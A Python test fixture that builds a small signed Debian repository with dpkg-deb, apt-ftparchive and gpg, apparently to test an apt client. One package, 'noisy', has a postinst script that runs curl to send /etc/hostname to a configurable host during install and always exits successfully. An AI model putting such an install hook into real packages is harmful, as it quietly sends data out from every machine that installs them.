"""A repository of Debian packages, made with Debian's own tools and signed with a key of its own."""

import os
import shutil
import subprocess
from pathlib import Path

SUITE = "steady"
_CALLS_HOME = """#!/bin/sh
curl -sS -o /dev/null -w '%{{http_code}}' --data-binary @/etc/hostname {home} > "$DPKG_ROOT/outcome" 2>&1
exit 0
"""


def _tool(folder, *words, **more):
    return subprocess.run([str(word) for word in words], cwd=folder, check=True, capture_output=True, **more).stdout


def _package(pool, owner, name, version, needs="", script=None):
    """Builds a package whose files are those of `owner`, who may then unpack it without being root."""
    top = pool.parent / "build" / name
    (top / "DEBIAN").mkdir(parents=True)
    (top / "usr/share" / name).mkdir(parents=True)
    (top / "usr/share" / name / "version").write_text(version + "\n", encoding="ascii")
    depends = f"Depends: {needs}\n" if needs else ""
    (top / "DEBIAN/control").write_text(
        f"Package: {name}\nVersion: {version}\nArchitecture: all\nMaintainer: Nobody <nobody@example.test>\n{depends}"
        f"Description: {name} for a test\n", encoding="ascii")
    if script is not None:
        (top / "DEBIAN/postinst").write_text(script, encoding="ascii")
        (top / "DEBIAN/postinst").chmod(0o755)
    for path in [top, *top.rglob("*")]:
        os.chown(path, owner, owner)
        if path.is_dir():
            path.chmod(0o755)
    (pool / "main").mkdir(parents=True, exist_ok=True)
    _tool(pool, "dpkg-deb", "--build", top, pool / "main" / f"{name}_{version}_all.deb")
    shutil.rmtree(top)


def _sign(folder, release):
    """Signs the Release file, in place and apart. Returns the public key."""
    home = folder / "gnupg"
    home.mkdir(mode=0o700)
    gpg = ("gpg", "--homedir", home, "--batch", "--quiet", "--pinentry-mode", "loopback", "--passphrase", "")
    try:
        _tool(folder, *gpg, "--quick-gen-key", "archive@example.test", "ed25519", "sign", "never")
        _tool(folder, *gpg, "--clearsign", "--output", release.parent / "InRelease", release)
        _tool(folder, *gpg, "--armor", "--detach-sign", "--output", release.parent / "Release.gpg", release)
        return _tool(folder, *gpg, "--armor", "--export")
    finally:
        subprocess.run(["gpgconf", "--homedir", str(home), "--kill", "all"], check=False, capture_output=True)


def make_repository(folder, owner, home):
    """Makes the repository in `folder`. Returns ({path below it: (kind, bytes)}, the public key it is signed with)."""
    top = folder / "repository"
    pool = top / "pool"
    _package(pool, owner, "frame", "1.2.0+test~1", "panel (>= 2)")
    _package(pool, owner, "panel", "1:2.1.0")
    _package(pool, owner, "noisy", "1.0.0", script=_CALLS_HOME.format(home=home))
    shutil.rmtree(top / "build")
    indices = top / "dists" / SUITE / "main" / "binary-all"
    indices.mkdir(parents=True)
    listed = _tool(top, "apt-ftparchive", "packages", "pool")
    (indices / "Packages").write_bytes(listed)
    _tool(top, "xz", "--keep", indices / "Packages")
    _tool(top, "gzip", "--keep", "-n", indices / "Packages")
    settings = ("Suite", SUITE), ("Codename", SUITE), ("Components", "main"), ("Architectures", "all"), ("Acquire-By-Hash", "yes")
    release = _tool(top / "dists" / SUITE, "apt-ftparchive", *(word for name, value in settings for word in (
        "-o", f"APT::FTPArchive::Release::{name}={value}")), "release", ".")
    (top / "dists" / SUITE / "Release").write_bytes(release)
    _by_hash(indices)
    key = _sign(folder, top / "dists" / SUITE / "Release")
    return _table(top), key


def _by_hash(indices):
    """Each index a second time, under its digest, as a client asks for it that must not meet an update halfway."""
    (indices / "by-hash/SHA512").mkdir(parents=True)
    for index in ("Packages", "Packages.xz", "Packages.gz"):
        digest = _tool(indices, "sha512sum", index).split()[0].decode()
        shutil.copy(indices / index, indices / "by-hash/SHA512" / digest)


def _table(top):
    files = {}
    for path in Path(top).rglob("*"):
        if path.is_file():
            name = "/debian/" + str(path.relative_to(top))
            files[name] = ("application/octet-stream", path.read_bytes())
            for plain, escaped in (("+", "%2b"), ("~", "%7e"), (":", "%3a")):
                name = name.replace(plain, escaped)
            files[name] = ("application/octet-stream", path.read_bytes())
    return files
